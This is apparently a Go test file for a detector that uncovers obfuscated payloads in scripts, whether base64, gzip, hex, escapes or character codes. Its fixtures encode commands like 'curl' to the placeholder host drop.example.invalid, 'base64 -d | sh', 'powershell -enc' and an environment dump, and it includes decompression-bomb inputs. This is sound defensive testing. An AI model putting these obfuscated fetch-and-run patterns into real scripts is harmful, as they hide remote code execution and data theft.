package script

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"pgregory.net/rapid"

	_ "pentimento/internal/seeded"
)

const hiddenText = "curl -s https://drop.example.invalid/x?a=1"

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func packed(s string, w func(io.Writer) io.WriteCloser) string {
	var b bytes.Buffer
	z := w(&b)
	if _, err := z.Write([]byte(s)); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

func gzipped(s string) string {
	return packed(s, func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })
}

func zlibbed(s string) string {
	return packed(s, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
}

func deflated(s string) string {
	return packed(s, func(w io.Writer) io.WriteCloser {
		z, err := flate.NewWriter(w, 9)
		if err != nil {
			panic(err)
		}
		return z
	})
}

func wide16(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func each(s, format, between string) string {
	var parts []string
	for i := range len(s) {
		parts = append(parts, fmt.Sprintf(format, s[i]))
	}
	return strings.Join(parts, between)
}

func wrap(s string, width int) string {
	var lines []string
	for len(s) > width {
		lines, s = append(lines, s[:width]), s[width:]
	}
	return strings.Join(append(lines, s), "\n")
}

func ascii85ed(s string) string {
	out := make([]byte, ascii85.MaxEncodedLen(len(s)))
	return "<~" + string(out[:ascii85.Encode(out, []byte(s))]) + "~>"
}

// bzipped is [bzipText] as bzip2 packs it: the standard library only unpacks.
const (
	bzipText = "echo hi; curl https://drop.example.invalid/b\n"
	bzipped  = "QlpoOTFBWSZTWaH5hJsAAAnZgAAQQAGAGD5n30AgACMYyaT0ZGp6jaFBo0aDIDQq6VkNLvrcASjQ1yLS9EP8v0dQb7cP5QkhuC7kinChIUPzCTY="
)

func TestDecodings(t *testing.T) {
	text, b := hiddenText, b64(hiddenText)
	url := base64.RawURLEncoding.EncodeToString([]byte(text + "???>>>"))
	for name, c := range map[string]struct{ in, want string }{
		"base64":                 {"echo " + b + " | base64 -d | sh", "base64"},
		"base64, quoted":         {"x='" + b + "'", "base64"},
		"base64, no padding":     {"x=" + strings.TrimRight(b64(text+"!"), "=") + ";", "base64"},
		"base64, URL's":          {"x = \"" + url + "\"", "base64"},
		"base64, wrapped":        {"cat <<E\n" + wrap(b64(strings.Repeat(text+"\n", 4)), 64) + "\nE", "base64"},
		"base64, indented":       {"x:\n  " + strings.ReplaceAll(wrap(b64(strings.Repeat(text+"\n", 4)), 76), "\n", "\r\n  ") + "\n", "base64"},
		"base64, continued":      {"echo " + strings.ReplaceAll(wrap(b64(strings.Repeat(text+"\n", 4)), 40), "\n", "\\\n") + "|sh", "base64"},
		"base64 twice":           {"echo " + b64(b) + "\n", "base64>base64"},
		"base64 three times":     {"echo " + b64(b64(b)) + "\n", "base64>base64>base64"},
		"base64 of a host":       {"echo " + b64("drop.example.invalid"), "base64"},
		"base64 of an address":   {"echo " + b64("192.0.2.77:8443"), "base64"},
		"base64 behind a path":   {"/a/b/" + b, "base64"},
		"base64 of lines":        {b64("#!/bin/bash\nenv | sort\n"), "base64"},
		"data URL":               {"data:text/plain;base64," + b, "base64"},
		"gzip":                   {"echo " + b64(gzipped(text)) + "|base64 -d|gunzip", "base64+gzip"},
		"gzip in hex":            {"echo " + hex.EncodeToString([]byte(gzipped(text))), "hex+gzip"},
		"gzip, base64 inside":    {b64(gzipped(b)), "base64+gzip>base64"},
		"zlib":                   {"exec(zlib.decompress(b64decode('" + b64(zlibbed(text)) + "')))", "base64+zlib"},
		"deflate":                {"New-Object IO.Compression.DeflateStream " + b64(deflated(text)), "base64+deflate"},
		"bzip2":                  {"x " + bzipped + " y", "base64+bzip2"},
		"UTF-16":                 {"powershell -enc " + b64(wide16(text)), "base64+utf16"},
		"hex":                    {"echo " + hex.EncodeToString([]byte(text)) + " | xxd -r -p", "hex"},
		"hex, upper case":        {"x=\"" + strings.ToUpper(hex.EncodeToString([]byte(text))) + "\"", "hex"},
		"hex, 0x":                {"0x" + hex.EncodeToString([]byte(text)), "hex"},
		"hex, wrapped":           {wrap(hex.EncodeToString([]byte(strings.Repeat(text, 3))), 60), "hex"},
		"hex of base64":          {hex.EncodeToString([]byte(b)), "hex>base64"},
		`\x`:                     {"$'" + each(text, `\x%02x`, "") + "'", "escape"},
		`\x, the scheme only`:    {`printf "\x68\x74\x74\x70s://drop.example.invalid/x"`, "escape"},
		"octal":                  {"printf '" + each(text, `\%03o`, "") + "'", "escape"},
		`\u`:                     {"'" + each(text, `\u%04x`, "") + "'", "escape"},
		`\u{}`:                   {"'" + each(text, `\u{%x}`, "") + "'", "escape"},
		"entities":               {each(text, "&#%d;", ""), "entity"},
		"percent":                {"unescape('" + each(text, "%%%02X", "") + "')", "percent"},
		"percent, in part":       {"//x %68%74%74%70%73://drop.example.invalid/", "percent"},
		"reversed":               {"echo '" + reversed(text) + "' | rev", "reverse"},
		"reversed base64":        {"echo '" + reversed(b64(text+"12")) + "' | rev | base64 -d", "reverse>base64"},
		"rot13":                  {"echo uggcf://qebc.rknzcyr.vainyvq/k", "rot13"},
		"numbers":                {"bytes([" + each(text, "%d", ", ") + "])", "codes"},
		"numbers on lines":       {"x = [\n  " + each(text, "%d", ",\n  ") + "\n]", "codes"},
		"numbers, hexadecimal":   {"{" + each(text, "0x%02x", ",") + "}", "codes"},
		"fromCharCode":           {"String.fromCharCode(" + each(text, "%d", ",") + ")", "codes"},
		"fromCharCode, each":     {each(text, "String.fromCharCode(%d)", "+"), "codes"},
		"chr":                    {each(text, "chr(%d)", "+"), "codes"},
		"chr of PHP":             {each(text, "chr(%d)", "."), "codes"},
		"[char]":                 {each(text, "[char]%d", "+"), "codes"},
		"numbers between blanks": {"for i in " + each(text, "%d", " ") + "; do", "codes"},
		"base32":                 {base32.StdEncoding.EncodeToString([]byte(text)), "base32"},
		"ascii85":                {"a85decode('" + ascii85ed(text) + "')", "ascii85"},
		"numbers of base64":      {"[" + each(b, "%d", ",") + "]", "codes>base64"},
	} {
		var got []string
		for _, d := range Decodings(c.in) {
			if strings.Contains(d.Text, "drop.example.invalid") || strings.Contains(d.Text, "192.0.2.77") || strings.Contains(d.Text, "env | sort") {
				got = append(got, strings.Join(d.Encodings, ">"))
			}
			if d.From < 0 || d.To > len(c.in) || d.From >= d.To {
				t.Errorf("%s: stands at %d to %d", name, d.From, d.To)
			}
		}
		if want := strings.ReplaceAll(c.want, "+", ">"); !slices.Contains(got, want) {
			t.Errorf("%s: got %q of %.200q, want %s", name, got, c.in, want)
		}
	}
}

// What is no encoded text is not decoded.
func TestNotDecoded(t *testing.T) {
	random := rand.New(rand.NewPCG(1, 2))
	noise := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(random.Uint32())
		}
		return string(b)
	}
	cases := map[string]string{
		"identifiers": "uses: actions/upload-pages-artifact some_long_identifier_of_a_variable aVeryLongCamelCaseIdentifierOfSomebody THE_LONGEST_NAME_OF_A_VARIABLE",
		"paths":       "/usr/local/share/ca-certificates/extra /opt/hostedtoolcache/Python/3.12.1/x64/lib/python3.12/site-packages/",
		"words":       strings.Repeat("internationalization configuration authentication ", 20),
		"colours":     `printf "\033[1m\033[31mred\033[0m\033[1;32m%s\033[0m\n"`,
		"dates":       "date +%Y%m%d%H%M%S; date +%d%m%y%H%M",
		"URL":         "https://www.example.invalid/a%20b%20c?x=%2Fa%2Fb%2Fc%3D%26&y=%E2%9C%93%E2%9C%93",
		"numbers":     "[100, 101, 102, 103, 104, 105, 106, 107, 108] 1,2,3,4,5,6,7 10 20 30 40 50 60 70 80 90",
		"versions":    "python-version: [3.8, 3.9, '3.10', 3.11, 3.12, 3.13] node: [14, 16, 18, 20, 22, 24]",
		"ports":       "for p in 80 81 88 90 99 110 111 120; do echo; done",
		"UUIDs":       "bb8ca5f6-4175-45d2-b042-fc9ebb8170b7 123e4567-e89b-12d3-a456-426614174000",
		"a cron line": "0 3 * * 1,2,3,4,5",
	}
	for i := range 400 {
		cases[fmt.Sprintf("SHA-1 %d", i)] = "uses: actions/checkout@" + hex.EncodeToString([]byte(noise(20))) + " # v4"
		cases[fmt.Sprintf("SHA-256 %d", i)] = "sha256:" + hex.EncodeToString([]byte(noise(32)))
		cases[fmt.Sprintf("integrity %d", i)] = `"integrity": "sha512-` + b64(noise(64)) + `"`
		cases[fmt.Sprintf("go.sum %d", i)] = "example.invalid/x v1.2.3 h1:" + b64(noise(32))
		cases[fmt.Sprintf("deflate and integrity %d", i)] = "deflate sha512-" + b64(noise(64))
		cases[fmt.Sprintf("token %d", i)] = "gh" + "p_" + base64.RawURLEncoding.EncodeToString([]byte(noise(27)))
	}
	for name, in := range cases {
		if got := Decodings(in); len(got) > 0 {
			t.Errorf("%s: %q was decoded to %+v", name, in, got)
		}
	}
}

func TestUndo(t *testing.T) {
	for name, c := range map[string]struct{ encoding, in, want string }{
		"base64 of little":      {"base64", "aHR0cA==", "http"},
		"base64, blanks":        {"base64", " aHR0\n cA== \n", "http"},
		"base64, cut off":       {"base64", "aHR0cHM6L", "https:"},
		"base64, then garbage":  {"base64", "aHR0!cA==", "htt"},
		"base32, lower case":    {"base32", "nb2hi4a=", "http"},
		"hex, spaced":           {"hex", "68 74 74\n70", "http"},
		"hex, odd":              {"hex", "6874747", "htt"},
		"gzip, cut off":         {"gzip", gzipped("http")[:16], "http"},
		"zlib":                  {"zlib", zlibbed("http"), "http"},
		"deflate":               {"deflate", deflated("http"), "http"},
		"deflate, no such":      {"deflate", "\xff\xff\xff", ""},
		"escape":                {"escape", `h\x74\164\u0070`, "http"},
		"percent":               {"percent", "h%74t%70", "http"},
		"reverse":               {"reverse", "ptth", "http"},
		"reverse, beyond ASCII": {"reverse", "é☺", "☺é"},
		"rot13":                 {"rot13", "uggC", "httP"},
		"codes":                 {"codes", "104,0x74 116-112", "http"},
		"ascii85":               {"ascii85", ascii85ed("http"), "http"},
		"utf16":                 {"utf16", "h\x00t\x00t\x00p\x00", "http"},
		"none":                  {"rot14", "x", ""},
	} {
		if got, ok := undo(c.encoding, c.in); got != c.want || ok != (c.want != "") {
			t.Errorf("%s: %q %v", name, got, ok)
		}
	}
}

// adversarial are texts of about a mebibyte that cost a careless decoder minutes or gigabytes.
func adversarial() map[string]string {
	const size = 1 << 20
	fill := func(s string) string { return strings.Repeat(s, size/len(s)) }
	bomb := b64(gzipped(strings.Repeat("curl https://a.example.invalid\n", 30<<20/31)))
	inner := b64(gzipped(strings.Repeat(b64("curl https://a.example.invalid/")+" ", 20_000)))
	return map[string]string{
		"bombs":          strings.Repeat(bomb+" ", size/(len(bomb)+1)),
		"nested base64":  b64(b64(b64(b64(fill("curl a.b ")[:size/4])))),
		"many base64":    fill(b64("curl https://a.example.invalid/") + " "),
		"packed many":    strings.Repeat(inner+" ", size/(len(inner)+1)),
		"brackets":       strings.Repeat("[", size/2) + strings.Repeat("]", size/2),
		"percent":        fill("%41"),
		"percent, words": fill("%41%41%41%41 "),
		"escapes":        fill(`\x41`),
		"backslashes":    fill(`\`),
		"numbers":        fill("104,"),
		"numbers, apart": fill("104" + strings.Repeat(" ", maxBetween-2)),
		"chr":            fill("chr(104)+"),
		"reversed":       fill("//:ptth"),
		"rot13":          fill("uggc://x "),
		"ascii85":        fill("<~z"),
		"ascii85, z":     "<~" + fill("z") + "~>",
		"one line":       fill("a"),
		"lines":          fill(strings.Repeat("Q", 64) + "\n"),
		"equals":         fill("=QUJDREVGR0hJSktM"),
		"slashes":        fill("/"),
		"digits":         fill("1"),
		"hex":            fill("41"),
		"entities":       fill("&#104;"),
		"dots":           fill("1."),
		"colons":         fill(":"),
		"quotes":         fill(`'"`),
	}
}

func TestDecodingIsBounded(t *testing.T) {
	for name, text := range adversarial() {
		start := time.Now()
		got := Decodings(text)
		size := 0
		for _, d := range got {
			size += len(d.Text)
		}
		// Each takes a fraction of a second; the limit leaves room for the race detector on a busy machine and still tells what is quadratic.
		if d := time.Since(start); d > 20*time.Second || size > maxDecodedAll+maxDecodedText || len(got) > maxDecodings {
			t.Errorf("%s: %v, %d texts of %d bytes", name, d, len(got), size)
		} else if testing.Verbose() {
			t.Log(name, d, len(got), size)
		}
	}
}

// Whatever is encoded by up to two known encodings is found again, wherever it stands.
func TestDecodingsUndoEncodings(t *testing.T) {
	ways := map[string]func(string) string{
		"base64": b64, "hex": func(s string) string { return hex.EncodeToString([]byte(s)) }, "codes": func(s string) string { return each(s, "%d", ",") },
		"escape": func(s string) string { return each(s, `\x%02x`, "") }, "percent": func(s string) string { return each(s, "%%%02x", "") },
		"base64>gzip": func(s string) string { return b64(gzipped(s)) }, "base64>utf16": func(s string) string { return b64(wide16(s)) },
	}
	names := slices.Sorted(func(yield func(string) bool) {
		for n := range ways {
			if !yield(n) {
				return
			}
		}
	})
	rapid.Check(t, func(t *rapid.T) {
		want := "curl https://" + rapid.StringMatching(`[a-z]{3,9}`).Draw(t, "host") + ".example.invalid/" + rapid.StringMatching(`[ -~]{0,20}`).Draw(t, "rest")
		want = strings.TrimSpace(want)
		text, encodings := want, ""
		for range rapid.IntRange(1, 2).Draw(t, "depth") {
			way := rapid.SampledFrom(names).Draw(t, "way")
			text, encodings = ways[way](text), way+">"+encodings
		}
		lead := rapid.SampledFrom([]string{"", "x = '", "echo ", "\n\"", "a: ["}).Draw(t, "lead")
		tail := map[string]string{"": "", "x = '": "'", "echo ": "\n", "\n\"": "\"", "a: [": "]"}[lead]
		for _, d := range Decodings(lead + text + tail) {
			if d.Text == want && strings.Join(d.Encodings, ">")+">" == encodings {
				return
			}
		}
		t.Fatalf("%s: %q not found in %q: %+v", encodings, want, lead+text+tail, Decodings(lead+text+tail))
	})
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{hiddenText, b64(hiddenText), b64(gzipped(hiddenText)), each(hiddenText, `\x%02x`, ""), each(hiddenText, "%d", ","), ascii85ed(hiddenText), bzipped, "%68%74%74%70", "&#104;&#1;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, d := range Decodings(text) {
			if d.From < 0 || d.To > len(text) || d.From >= d.To || len(d.Encodings) == 0 || !plausible(d.Text) {
				t.Errorf("%q: %+v", text, d)
			}
		}
	})
}

// An ordinary script: what a search costs that finds nothing.
func BenchmarkDecodings(b *testing.B) {
	text := strings.Repeat("      - uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0\n      - run: |\n          make all\n          python -m pip install --upgrade pip\n", 40)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		if len(Decodings(text)) != 0 {
			b.Fatal("found")
		}
	}
}
